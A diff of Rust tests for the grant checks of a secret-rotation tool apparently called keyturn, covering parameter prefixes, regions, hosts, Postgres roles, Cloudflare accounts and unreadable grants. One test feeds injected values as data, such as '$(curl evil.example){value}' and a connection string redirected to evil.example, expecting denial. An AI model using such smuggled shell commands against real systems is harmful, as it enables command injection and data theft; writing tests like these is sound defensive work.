@@ -42,10 +42,24 @@ fn host(ssh: Value) -> DockerHost {
 
 fn short(verdict: Verdict) -> &'static str {
     match verdict {
-        Verdict::Allowed(GrantMode::Rotate) => "rotate",
-        Verdict::Allowed(GrantMode::Observe) => "observe",
+        Verdict::Rotate => "rotate",
+        Verdict::Observe(_) => "observe",
         Verdict::Denied(_) => "denied",
     }
+}
+
+/// What grants say to a secret of an installation in us-east-1.
+fn verdict_in(grants: &[RotationGrant], secret: &ManagedSecret, region: &str) -> Verdict {
+    let installation = Installation { region: "us-east-1", staging: STAGING };
+    managed_secret(&grants.iter().cloned().collect(), secret, region, installation)
+}
+
+fn verdict(grants: &[RotationGrant], secret: &ManagedSecret) -> Verdict {
+    verdict_in(grants, secret, "us-east-1")
+}
+
+fn verdict_on(grants: &[RotationGrant], host: &DockerHost) -> Verdict {
+    docker_host(&grants.iter().cloned().collect(), host)
 }
 
 #[test]
@@ -55,7 +69,8 @@ fn parameters_are_granted_by_whole_segments_region_and_key() {
         // prefix, regions, keys of the grant; path, key of the secret; verdict
         ("/shop/prod/", vec![], vec![], "/shop/prod/TOKEN", None, "rotate"),
         ("/shop/prod/", vec![], vec![], "/shop/prod/deep/TOKEN", None, "rotate"),
-        ("/", vec![], vec![], "/TOKEN", None, "rotate"),
+        ("/", vec![], vec![], "/TOKEN", None, "denied"),
+        ("/", vec![], vec![], "/shop/prod/TOKEN", None, "denied"),
         ("/shop/prod/", vec![], vec![], "/shop/production/TOKEN", None, "denied"),
         ("/shop/prod/", vec![], vec![], "/shop/prod", None, "denied"),
         ("/shop/prod", vec![], vec![], "/shop/production/TOKEN", None, "denied"),
@@ -71,7 +86,10 @@ fn parameters_are_granted_by_whole_segments_region_and_key() {
         ("/shop/prod/", vec![], vec![key], "/shop/prod/TOKEN", None, "rotate"),
         ("/shop/prod/", vec![], vec![], "/shop/prod/TOKEN", Some("alias/aws/ssm"), "rotate"),
         // keyturn's own records
-        ("/", vec![], vec![], "/keyturn/prod/shop/token/1", None, "denied"),
+        ("/shop/prod/", vec![], vec![], "/shop/prod/TOKEN/", None, "denied"),
+        ("/shop/prod/", vec![], vec![], "/shop/prod/./TOKEN", None, "denied"),
+        ("/shop/prod/", vec![], vec![], "//shop/prod/TOKEN", None, "denied"),
+        ("/shop/prod/", vec![], vec![], "shop/prod/TOKEN", None, "denied"),
         ("/keyturn/prod/", vec![], vec![], "/keyturn/prod/shop/token/1", None, "denied"),
         ("/keyturn/", vec![], vec![], "/keyturn/prod", None, "denied"),
         ("/keyturn/", vec![], vec![], "/keyturn/production/TOKEN", None, "rotate"),
@@ -81,7 +99,7 @@ fn parameters_are_granted_by_whole_segments_region_and_key() {
             "namespaces": ["shop"],
             "parameters": [{"prefix": prefix, "regions": regions, "kmsKeys": keys}],
         });
-        let verdict = managed_secret(&[grant(spec)], &secret(path, key), "us-east-1", STAGING);
+        let verdict = verdict(&[grant(spec)], &secret(path, key));
         assert_eq!(short(verdict), expected, "{prefix} {regions:?} {keys:?} for {path} {key:?}");
     }
 }
@@ -97,7 +115,7 @@ fn a_grant_is_for_its_namespaces_only_and_nothing_is_granted_without_one() {
         (of(json!(["sho"])), "denied"),
         (of(json!(["other", "shop"])), "rotate"),
     ] {
-        let verdict = managed_secret(&grants, &secret("/shop/TOKEN", None), "us-east-1", STAGING);
+        let verdict = verdict(&grants, &secret("/shop/TOKEN", None));
         assert_eq!(short(verdict), expected, "{grants:?}");
     }
 }
@@ -106,7 +124,7 @@ fn a_grant_is_for_its_namespaces_only_and_nothing_is_granted_without_one() {
 fn a_grant_that_is_being_deleted_grants_nothing() {
     let mut going = grant(json!({"namespaces": ["shop"], "parameters": [{"prefix": "/shop/"}]}));
     going.metadata.deletion_timestamp = Some(crate::time::to_kubernetes(chrono::DateTime::UNIX_EPOCH));
-    let verdict = managed_secret(&[going], &secret("/shop/TOKEN", None), "us-east-1", STAGING);
+    let verdict = verdict(&[going], &secret("/shop/TOKEN", None));
     assert_eq!(short(verdict), "denied");
 }
 
@@ -115,7 +133,7 @@ fn every_parameter_must_be_granted_by_one_grant_or_another() {
     let both = secret_at(json!({"parameters": [{"path": "/a/ID"}, {"path": "/b/SECRET"}]}));
     let a = grant(json!({"namespaces": ["shop"], "parameters": [{"prefix": "/a/"}]}));
     let b = grant(json!({"namespaces": ["shop"], "parameters": [{"prefix": "/b/"}]}));
-    let verdict = |grants: &[RotationGrant]| short(managed_secret(grants, &both, "us-east-1", STAGING));
+    let verdict = |grants: &[RotationGrant]| short(verdict(grants, &both));
     assert_eq!(verdict(std::slice::from_ref(&a)), "denied");
     assert_eq!(verdict(&[a, b]), "rotate");
 }
@@ -128,14 +146,23 @@ fn one_grant_that_observes_stops_what_others_allow() {
     let observe = |prefix: &str| {
         grant(json!({"namespaces": ["shop"], "mode": "Observe", "parameters": [{"prefix": prefix}]}))
     };
-    let verdict = |grants: &[RotationGrant], key| {
-        short(managed_secret(grants, &secret("/shop/TOKEN", key), "us-east-1", STAGING))
-    };
+    let verdict = |grants: &[RotationGrant], key| short(verdict(grants, &secret("/shop/TOKEN", key)));
     assert_eq!(verdict(&[observe("/shop/")], None), "observe");
     assert_eq!(verdict(&[rotate(), observe("/")], None), "observe");
     assert_eq!(verdict(&[observe("/"), rotate()], Some("alias/k")), "observe");
     assert_eq!(verdict(&[rotate(), observe("/other/")], None), "rotate");
     assert_eq!(verdict(&[observe("/shop/")], Some("alias/k")), "denied");
+    assert_eq!(verdict(&[observe("/")], None), "denied", "that stops everything, and allows nothing");
+    let elsewhere = json!({
+        "namespaces": ["shop"], "mode": "Observe", "parameters": [{"prefix": "/", "regions": ["eu-west-1"]}],
+    });
+    assert_eq!(verdict(&[rotate(), grant(elsewhere)], None), "rotate");
+    let Verdict::Observe(why) =
+        super::tests::verdict(&[rotate(), observe("/")], &secret("/shop/TOKEN", None))
+    else {
+        panic!("it is observed")
+    };
+    assert_eq!(why, "RotationGrant grant has mode: Observe");
 }
 
 #[test]
@@ -154,12 +181,12 @@ fn hosts_are_granted_by_name_and_port_and_the_jump_host_too() {
         (granted(json!([{"host": "10.0.0.7"}, {"host": "jump.example"}])), &jump, "denied"),
         (granted(json!([{"host": "10.0.0.7"}, {"host": "jump.example", "port": 2222}])), &jump, "rotate"),
     ] {
-        assert_eq!(short(docker_host(&grants, &host(ssh.clone()))), expected, "{grants:?} for {ssh}");
+        assert_eq!(short(verdict_on(&grants, &host(ssh.clone()))), expected, "{grants:?} for {ssh}");
     }
     let stop = grant(json!({"namespaces": ["shop"], "mode": "Observe", "hosts": [{"host": "shop.example"}]}));
     let mut grants = granted(json!([{"host": "shop.example"}]));
     grants.push(stop);
-    assert_eq!(short(docker_host(&grants, &host(plain))), "observe");
+    assert_eq!(short(verdict_on(&grants, &host(plain))), "observe");
 }
 
 /// The grant that a denial shows, as an administrator would paste it.
@@ -167,6 +194,10 @@ fn pasted(verdict: &Verdict) -> RotationGrant {
     let Verdict::Denied(message) = verdict else { panic!("{verdict:?}") };
     let yaml = &message[message.find("apiVersion:").unwrap()..];
     serde_yaml_ng::from_str(yaml).unwrap()
+}
+
+fn in_germany(grant: &RotationGrant) -> ParameterGrant {
+    ParameterGrant { regions: vec!["eu-central-1".to_owned()], ..grant.spec.parameters[0].clone() }
 }
 
 #[test]
@@ -178,24 +209,26 @@ fn the_yaml_of_a_denial_allows_what_was_denied() {
     let have = grant(
         json!({"namespaces": ["shop"], "parameters": [{"prefix": "/other/", "kmsKeys": ["alias/shop"]}]}),
     );
-    let denied = managed_secret(std::slice::from_ref(&have), &secret, "eu-central-1", STAGING);
+    let have = RotationGrant {
+        spec: RotationGrantSpec { parameters: vec![in_germany(&have)], ..have.spec },
+        ..have
+    };
+    let denied = verdict_in(std::slice::from_ref(&have), &secret, "eu-central-1");
     let lacking = pasted(&denied);
     assert_eq!(lacking.metadata.name.as_deref(), Some("shop-token"));
-    let prefixes: Vec<&str> = lacking.spec.parameters.iter().map(|p| p.prefix.as_str()).collect();
+    let prefixes: Vec<&str> = lacking.spec.parameters.iter().filter_map(|p| p.prefix.as_deref()).collect();
     assert_eq!(prefixes, ["/shop/prod/"], "no more than what is lacking");
     assert_eq!(lacking.spec.parameters[0].regions, ["eu-central-1"]);
-    assert_eq!(short(managed_secret(&[have, lacking], &secret, "eu-central-1", STAGING)), "rotate");
+    assert_eq!(short(verdict_in(&[have, lacking], &secret, "eu-central-1")), "rotate");
 
     let host = host(json!({"host": "10.0.0.7", "jump": {"host": "jump.example", "user": "j"}}));
-    let lacking = pasted(&docker_host(&[], &host));
-    assert_eq!(short(docker_host(&[lacking], &host)), "rotate");
+    let lacking = pasted(&verdict_on(&[], &host));
+    assert_eq!(short(verdict_on(&[lacking], &host)), "rotate");
 }
 
 #[test]
 fn a_denial_names_the_namespace_and_the_thing_and_fits_a_condition() {
-    let Verdict::Denied(message) =
-        managed_secret(&[], &secret("/shop/production/TOKEN", None), "us-east-1", STAGING)
-    else {
+    let Verdict::Denied(message) = verdict(&[], &secret("/shop/production/TOKEN", None)) else {
         panic!("allowed")
     };
     assert!(
@@ -217,7 +250,7 @@ fn verdict_of(grants: &[Value], secret: &ManagedSecret) -> Verdict {
     let parameters = grant(json!({"namespaces": ["shop"], "parameters": [{"prefix": "/app/"}]}));
     let servers = grants.iter().map(|servers| grant(json!({"namespaces": ["shop"], "postgres": servers})));
     let all: Vec<RotationGrant> = std::iter::once(parameters).chain(servers).collect();
-    managed_secret(&all, secret, "us-east-1", "/keyturn/test")
+    verdict(&all, secret)
 }
 
 #[test]
@@ -231,7 +264,7 @@ fn roles_are_granted_by_server_and_port_each_of_them() {
     }));
     let of_host = |roles: &[&str]| json!([{"host": "db.internal", "roles": roles}]);
     let via = |port: i32| json!([{"dockerHost": "production", "port": port, "roles": ["musehub"]}]);
-    let allowed = Verdict::Allowed(GrantMode::Rotate);
+    let allowed = Verdict::Rotate;
     assert_eq!(verdict_of(&[via(5434)], &single), allowed);
     assert_ne!(verdict_of(&[via(5432)], &single), allowed, "another port");
     assert_ne!(verdict_of(&[], &single), allowed);
@@ -253,9 +286,10 @@ fn superusers_are_changed_only_where_every_role_may_be_one() {
             "namespaces": ["shop"], "postgres": [{"host": "db", "roles": ["musehub"], "allowSuperuser": allow}],
         }))
     };
-    assert!(allows_superuser(&[given(true)], &single));
-    assert!(!allows_superuser(&[given(false)], &single));
-    assert!(!allows_superuser(&[], &single));
+    let allows = |grants: &[RotationGrant]| allows_superuser(&grants.iter().cloned().collect(), &single);
+    assert!(allows(&[given(true)]));
+    assert!(!allows(&[given(false)]));
+    assert!(!allows(&[]));
 }
 
 #[test]
@@ -279,15 +313,135 @@ fn cloudflare_accounts_are_granted_by_their_id() {
     let account = |id: &str, mode: &str| json!({"namespaces": ["shop"], "mode": mode, "cloudflare": [{"accountId": id}]});
     let verdict_of = |specs: &[Value], secret: &ManagedSecret| {
         let grants: Vec<RotationGrant> = specs.iter().cloned().map(grant).collect();
-        managed_secret(&grants, secret, "us-east-1", STAGING)
+        verdict(&grants, secret)
     };
     let verdict = verdict_of(std::slice::from_ref(&paths), &secret);
     let Verdict::Denied(lacking) = &verdict else { panic!("{verdict:?}") };
     assert!(lacking.contains(&format!("the Cloudflare account {ACCOUNT}")), "{lacking}");
     let given = [paths.clone(), serde_json::to_value(pasted(&verdict).spec).unwrap()];
-    assert_eq!(verdict_of(&given, &secret), Verdict::Allowed(GrantMode::Rotate));
+    assert_eq!(verdict_of(&given, &secret), Verdict::Rotate);
     let other = [paths.clone(), account(&"f".repeat(32), "Rotate")];
     assert!(matches!(verdict_of(&other, &secret), Verdict::Denied(_)));
     let watched = [paths, account(ACCOUNT, "Rotate"), account(ACCOUNT, "Observe")];
-    assert_eq!(verdict_of(&watched, &secret), Verdict::Allowed(GrantMode::Observe));
+    assert_eq!(short(verdict_of(&watched, &secret)), "observe");
+}
+
+#[test]
+fn a_grant_without_regions_is_for_the_installations_own() {
+    let everywhere = || grant(json!({"namespaces": ["shop"], "parameters": [{"prefix": "/shop/"}]}));
+    let secret = secret("/shop/TOKEN", None);
+    assert_eq!(short(verdict_in(&[everywhere()], &secret, "us-east-1")), "rotate");
+    assert_eq!(short(verdict_in(&[everywhere()], &secret, "xx-chosen-7")), "denied");
+    let mut stop = everywhere();
+    stop.spec.mode = GrantMode::Observe;
+    let mut named = everywhere();
+    named.spec.parameters[0].regions = vec!["eu-west-1".to_owned()];
+    assert_eq!(short(verdict_in(&[named, stop], &secret, "eu-west-1")), "observe", "it stops every region");
+}
+
+#[test]
+fn the_yaml_of_a_denial_never_grants_the_whole_account() {
+    let secret = secret("/TOKEN", None);
+    let lacking = pasted(&verdict(&[], &secret));
+    assert_eq!(
+        (lacking.spec.parameters[0].prefix.as_ref(), lacking.spec.parameters[0].path.as_deref()),
+        (None, Some("/TOKEN"))
+    );
+    assert_eq!(short(verdict(std::slice::from_ref(&lacking), &secret)), "rotate");
+    for other in ["/OTHER", "/TOKEN2", "/TOKEN/deeper", "/token"] {
+        assert_eq!(
+            short(verdict(std::slice::from_ref(&lacking), &self::secret(other, None))),
+            "denied",
+            "{other}"
+        );
+    }
+}
+
+#[test]
+fn text_around_a_value_is_granted_word_for_word() {
+    const TEMPLATE: &str = "postgresql://{username}:{password}@db/app";
+    let with = |value: &str| secret_at(json!({"parameters": [{"path": "/shop/URL", "value": value}]}));
+    let listing = |templates: Value| {
+        grant(json!({"namespaces": ["shop"], "parameters": [{"prefix": "/shop/", "templates": templates}]}))
+    };
+    for (templates, value, expected) in [
+        (json!([]), "{value}", "rotate"),
+        (json!([]), "{username}{password}", "rotate"),
+        (json!([]), "{accessKeyId}", "rotate"),
+        (json!([TEMPLATE]), TEMPLATE, "rotate"),
+        (json!([]), TEMPLATE, "denied"),
+        (json!([TEMPLATE]), "postgresql://{username}:{password}@evil.example/app", "denied"),
+        (json!([TEMPLATE]), "postgresql://{username}:{password}@db/app ", "denied"),
+        (json!([]), "$(curl evil.example){value}", "denied"),
+        (json!([]), "{value} ", "denied"),
+        (json!([]), "{user{value}name}", "denied"),
+    ] {
+        let verdict = verdict(&[listing(templates.clone())], &with(value));
+        assert_eq!(short(verdict), expected, "{value} where {templates} is listed");
+    }
+    let have = listing(json!([]));
+    let lacking = pasted(&verdict(std::slice::from_ref(&have), &with(TEMPLATE)));
+    assert_eq!(short(verdict(&[have, lacking], &with(TEMPLATE))), "rotate");
+}
+
+#[test]
+fn probes_are_granted_for_every_role_that_they_are_run_as() {
+    let mut secret = role(json!({"host": "db", "singleRole": {"name": "app"}, "probes": ["SELECT 1"]}));
+    let given = |probes: bool| json!([{"host": "db", "roles": ["app"], "probes": probes}]);
+    assert_eq!(verdict_of(&[given(true)], &secret), Verdict::Rotate);
+    let denied = verdict_of(&[given(false)], &secret);
+    let Verdict::Denied(message) = &denied else { panic!("{denied:?}") };
+    assert!(message.contains("use probes as the roles app"), "{message}");
+    let lacking = serde_json::to_value(pasted(&denied).spec.postgres).unwrap();
+    assert_eq!(verdict_of(&[given(false), lacking], &secret), Verdict::Rotate);
+    secret.spec.generate.postgres.as_mut().unwrap().probes.clear();
+    assert_eq!(verdict_of(&[given(false)], &secret), Verdict::Rotate);
+}
+
+/// A grant as the API server has it.
+fn listed(spec: Value) -> DynamicObject {
+    let object = json!({
+        "apiVersion": "keyturn.dev/v1alpha1", "kind": "RotationGrant", "metadata": {"name": "broken"}, "spec": spec,
+    });
+    serde_json::from_value(object).unwrap()
+}
+
+#[test]
+fn a_grant_that_cannot_be_read_observes_its_namespaces_or_all_of_them() {
+    let rotate = json!({
+        "namespaces": ["shop"], "parameters": [{"prefix": "/shop/"}], "hosts": [{"host": "shop.example"}],
+    });
+    let beside = |spec: Value| Grants::of(vec![listed(rotate.clone()), listed(spec)]);
+    let installation = Installation { region: "us-east-1", staging: STAGING };
+    let (secret, host) = (secret("/shop/TOKEN", None), host(json!({"host": "shop.example"})));
+    for (spec, expected) in [
+        (json!({"namespaces": ["shop"], "mode": "Freeze"}), "observe"),
+        (json!({"namespaces": ["other"], "mode": "Freeze"}), "rotate"),
+        (json!({"namespaces": ["other", 7]}), "observe"),
+        (json!({"namespaces": []  , "mode": 7}), "observe"),
+        (json!({"namespaces": "other"}), "observe"),
+        (json!({"mode": "Observe"}), "observe"),
+        (json!("nothing"), "observe"),
+        (json!({"namespaces": ["other"]}), "rotate"),
+    ] {
+        let grants = beside(spec.clone());
+        let verdict = managed_secret(&grants, &secret, "us-east-1", installation);
+        if let Verdict::Observe(why) = &verdict {
+            assert!(why.starts_with("RotationGrant broken cannot be read"), "{why}");
+        }
+        assert_eq!(short(verdict), expected, "{spec}");
+        assert_eq!(short(docker_host(&grants, &host)), expected, "{spec}");
+    }
+    let mut going = listed(json!({"mode": "Observe"}));
+    going.metadata.deletion_timestamp = Some(crate::time::to_kubernetes(chrono::DateTime::UNIX_EPOCH));
+    let grants = Grants::of(vec![listed(rotate.clone()), going]);
+    assert_eq!(managed_secret(&grants, &secret, "us-east-1", installation), Verdict::Rotate);
+    let alone = Grants::of(vec![listed(
+        json!({"namespaces": ["shop"], "mode": 7, "parameters": [{"prefix": "/shop/"}]}),
+    )]);
+    assert_eq!(
+        short(managed_secret(&alone, &secret, "us-east-1", installation)),
+        "denied",
+        "it grants nothing"
+    );
 }
